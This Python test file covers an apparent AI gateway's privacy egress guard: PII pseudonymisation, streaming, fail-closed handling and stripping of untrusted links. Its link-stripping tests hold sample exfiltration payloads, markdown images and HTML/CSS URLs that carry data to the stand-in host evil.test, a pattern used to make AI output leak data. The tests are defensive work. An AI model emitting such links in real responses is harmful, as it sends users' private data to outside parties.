"""Masking hygiene at egress, table-driven, with the real Presidio detector as the live finder.

A placeholder is never masked again (no ``<<LOCATION_2>>``), one value gets one pseudonym per
response however it is formatted, a mask never eats the punctuation around a value, guarding is
idempotent, a value split across streamed deltas never leaks, and a finder's failure fails
closed.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Mapping
from enum import StrEnum

import pytest
from pydantic import BaseModel, ConfigDict

from gateway.egress import EgressGuard, collection_policy, error_guard, strip_foreign_links
from hqg.errors import PrivacyError
from privacy.detector import PresidioDetector
from privacy.masker import mask_text
from privacy.operators import MaskKind
from privacy.spans import Span
from privacy.vault import PseudonymVault

PSEUDONYMS = {"*": MaskKind.PSEUDONYM}


def guard(detector: PresidioDetector) -> EgressGuard:
    return EgressGuard(policy=PSEUDONYMS, vault=PseudonymVault(), finders=(detector.detect,))


def name_finder(*names: str):  # type: ignore[no-untyped-def]
    """A small real finder: exact, case-insensitive, on word boundaries."""
    pattern = re.compile(r"\b(?:" + "|".join(map(re.escape, names)) + r")\b", re.IGNORECASE)

    def find(text: str) -> list[Span]:
        return [
            Span(entity_type="PERSON", start=m.start(), end=m.end(), score=1.0)
            for m in pattern.finditer(text)
        ]

    return find


@pytest.mark.parametrize(
    "text",
    [
        "The parcel went to <LOCATION_2> and <PERSON_1> signed for it.",
        "As <PERSON_Q1> said, <PERSON_1> lives in <LOCATION>.",
        "Ask <EMAIL_ADDRESS_3> or [REDACTED] about <PHONE_NUMBER_2>.",
    ],
)
def test_placeholders_already_in_text_are_never_masked_again(
    detector: PresidioDetector, text: str
) -> None:
    assert guard(detector).text(text) == text


def test_a_stored_span_over_a_placeholder_does_not_double_mask_it() -> None:
    text = "Shipped to <LOCATION_2> today."
    inner = Span(entity_type="LOCATION", start=12, end=22, score=0.9)  # "LOCATION_2"
    masked = mask_text(text, [inner], policy=MaskKind.PSEUDONYM, vault=PseudonymVault())
    assert masked.text == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "Call (212) 555-0199 or 212.555.0199 after noon.",
            "Call <PHONE_NUMBER_1> or <PHONE_NUMBER_1> after noon.",
        ),
        (
            "Mail jane.roe@example.com, then JANE.ROE@EXAMPLE.COM again.",
            "Mail <EMAIL_ADDRESS_1>, then <EMAIL_ADDRESS_1> again.",
        ),
    ],
)
def test_one_value_gets_one_pseudonym_per_response_whatever_its_format(
    detector: PresidioDetector, text: str, expected: str
) -> None:
    assert guard(detector).text(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Reach me (mobile 212-555-0199) today.", "Reach me (mobile <PHONE_NUMBER_1>) today."),
        ("My number is 212-555-0199.", "My number is <PHONE_NUMBER_1>."),
        ('He wrote "jane.roe@example.com".', 'He wrote "<EMAIL_ADDRESS_1>".'),
    ],
)
def test_a_mask_never_eats_the_punctuation_around_a_value(
    detector: PresidioDetector, text: str, expected: str
) -> None:
    assert guard(detector).text(text) == expected


def test_loose_span_edges_are_fitted_to_the_value() -> None:
    text = "(call 212-555-0199) now"
    loose = Span(entity_type="PHONE_NUMBER", start=6, end=19, score=0.9)  # takes the ")"
    masked = mask_text(text, [loose], policy=MaskKind.PLACEHOLDER, vault=PseudonymVault())
    assert masked.text == "(call <PHONE_NUMBER>) now"


@pytest.mark.parametrize(
    "text",
    [
        "Tyler West (212) 555-0199 wrote from tyler.west@example.net about Paris.",
        "Makayla Ward writing about order 4411; call 212.555.0101!",
    ],
)
def test_guarding_twice_changes_nothing(detector: PresidioDetector, text: str) -> None:
    once = guard(detector)
    first = once.text(text)
    assert once.text(first) == first


def test_a_value_split_across_streamed_deltas_never_leaks() -> None:
    egress = EgressGuard(
        policy=PSEUDONYMS, vault=PseudonymVault(), finders=(name_finder("Tyler West"),)
    )
    deltas = ["Your ticket came from Tyl", "er", " West yesterday. ", "Nothing else."]
    sent = list(egress.stream(deltas))
    assert "".join(sent) == "Your ticket came from <PERSON_1> yesterday. Nothing else."
    assert not any(part in delta for delta in sent for part in ("Tyl", "West"))


class _Kind(StrEnum):
    WEST = "Tyler West"


class _Inner(BaseModel):
    model_config = ConfigDict(frozen=True, extra="forbid")

    quote: str
    metadata: Mapping[str, str | int | None]


class _Outer(BaseModel):
    model_config = ConfigDict(frozen=True, extra="forbid")

    answer: str
    kind: _Kind
    items: tuple[_Inner, ...]
    rows: tuple[tuple[str | int | None, ...], ...]


def test_release_masks_every_string_of_a_nested_response_model() -> None:
    egress = EgressGuard(
        policy=PSEUDONYMS, vault=PseudonymVault(), finders=(name_finder("Tyler West"),)
    )
    response = _Outer(
        answer="Tyler West asked.",
        kind=_Kind.WEST,
        items=(_Inner(quote="From: Tyler West", metadata={"reporter": "tyler west", "n": 3}),),
        rows=(("TYLER WEST", 1, None),),
    )
    released = egress.release(response)
    assert released.answer == "<PERSON_1> asked."
    assert released.items[0].quote == "From: <PERSON_1>"
    assert released.items[0].metadata == {"reporter": "<PERSON_1>", "n": 3}
    assert released.rows == (("<PERSON_1>", 1, None),)
    assert released.kind is _Kind.WEST  # enums are vocabulary, not data


def test_an_inactive_guard_releases_everything_unchanged() -> None:
    egress = EgressGuard(policy={}, vault=PseudonymVault(), finders=(name_finder("Tyler"),))
    assert egress.text("Tyler West") == "Tyler West"


def test_a_failing_finder_fails_closed() -> None:
    def broken(text: str) -> list[Span]:
        raise RuntimeError(text)

    egress = EgressGuard(policy=PSEUDONYMS, vault=PseudonymVault(), finders=(broken,))
    with pytest.raises(PrivacyError) as caught:
        egress.text("Tyler West")
    assert "Tyler" not in str(caught.value)


class _Versioned:
    """A pinnable finder over names that change between reads, counting its pins."""

    def __init__(self, *generations: tuple[str, ...]) -> None:
        self.generations = list(generations)
        self.pins = 0

    def __call__(self, text: str) -> list[Span]:
        return self.pinned()(text)

    def pinned(self) -> Callable[[str], list[Span]]:
        self.pins += 1
        names = self.generations.pop(0) if len(self.generations) > 1 else self.generations[0]
        return name_finder(*names)  # type: ignore[no-any-return]


def _nested(name: str) -> _Outer:
    return _Outer(
        answer=f"{name} asked.",
        kind=_Kind.WEST,
        items=tuple(_Inner(quote=f"From: {name}", metadata={"by": name}) for _ in range(20)),
        rows=((name, 1, None),),
    )


def test_release_reads_a_pinnable_finders_state_once_per_response() -> None:
    finder = _Versioned(("Tyler West",), ("Tyler West", "Ann Lee"))
    egress = EgressGuard(policy=PSEUDONYMS, vault=PseudonymVault(), finders=(finder,))
    first = egress.release(_nested("Tyler West"))
    assert finder.pins == 1  # 42 strings, one read of the state
    assert "Tyler West" not in first.model_dump_json(exclude={"kind"})
    second = egress.release(_nested("Ann Lee"))  # the next response sees the newer state
    assert finder.pins == 2
    assert "Ann Lee" not in second.model_dump_json(exclude={"kind"})


def test_a_string_repeated_in_a_response_is_looked_up_once_and_masked_alike() -> None:
    seen: list[str] = []
    find = name_finder("Tyler West")

    def counting(text: str) -> list[Span]:
        seen.append(text)
        return find(text)

    egress = EgressGuard(policy=PSEUDONYMS, vault=PseudonymVault(), finders=(counting,))
    released = egress.release(_nested("Tyler West"))  # 20 items quote and name the same value
    assert sorted(seen) == sorted({"Tyler West asked.", "From: Tyler West", "Tyler West"})
    assert {item.quote for item in released.items} == {"From: <PERSON_1>"}
    assert {item.metadata["by"] for item in released.items} == {"<PERSON_1>"}
    assert released.rows == (("<PERSON_1>", 1, None),)


def test_a_response_with_nothing_to_mask_is_released_equal() -> None:
    egress = EgressGuard(policy=PSEUDONYMS, vault=PseudonymVault(), finders=(name_finder("X"),))
    response = _nested("Ann Lee")
    assert egress.release(response) == response


def test_a_finder_that_cannot_pin_its_state_fails_closed() -> None:
    class Broken(_Versioned):
        def pinned(self) -> Callable[[str], list[Span]]:
            raise RuntimeError("Tyler West")

    egress = EgressGuard(policy=PSEUDONYMS, vault=PseudonymVault(), finders=(Broken(),))
    with pytest.raises(PrivacyError) as caught:
        egress.release(_nested("Tyler West"))
    assert "Tyler" not in str(caught.value)


def test_error_messages_pass_the_finders_for_every_caller() -> None:
    class _Gateway:
        egress_finders = (name_finder("Tyler West"),)

    egress = error_guard(_Gateway())  # type: ignore[arg-type]
    assert egress.text("no ticket by Tyler West") == "no ticket by <PERSON>"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("See ![chart](https://evil.test/x.png?d=<PERSON_1>) here.", "See  here."),
        ("Read [the policy](https://evil.test/p) now.", "Read the policy now."),
        (
            "Read [the policy](https://docs.acme.test/p).",
            "Read [the policy](https://docs.acme.test/p).",
        ),
        ("Go to https://evil.test/collect?q=1 now.", "Go to [link removed] now."),
        ("[1]: https://evil.test/ref\nDone [1].", "\nDone [1]."),
        ("Relative ![x](/img.png) too.", "Relative  too."),
    ],
)
def test_model_links_and_images_to_hosts_not_in_evidence_are_stripped(
    text: str, expected: str
) -> None:
    assert strip_foreign_links(text, allowed_hosts={"docs.acme.test"}) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("<img src=//evil.test/x?d=Tyler_West>", "<img src=[link removed]>"),
        ('<img src="//evil.test/a?d=secret">', '<img src="[link removed]">'),
        (
            "<div style='background:url(//evil.test/?d=2)'>",
            "<div style='background:url([link removed])'>",
        ),
        ("<img src=//docs.acme.test/logo.png>", "<img src=//docs.acme.test/logo.png>"),
        ("// a comment, and a/b//c stay", "// a comment, and a/b//c stay"),
    ],
)
def test_scheme_relative_urls_in_html_and_css_are_links_too(text: str, expected: str) -> None:
    assert strip_foreign_links(text, allowed_hosts={"docs.acme.test"}) == expected


def test_several_collections_mask_a_type_with_the_strictest_kind_any_of_them_applies() -> None:
    policy = collection_policy(
        [
            {"PERSON": MaskKind.NULL, "PHONE_NUMBER": MaskKind.PARTIAL},
            {"PERSON": MaskKind.PARTIAL, "*": MaskKind.REDACT},
            {},
        ]
    )
    assert policy == {
        "PERSON": MaskKind.NULL,
        "PHONE_NUMBER": MaskKind.REDACT,
        "*": MaskKind.REDACT,
    }
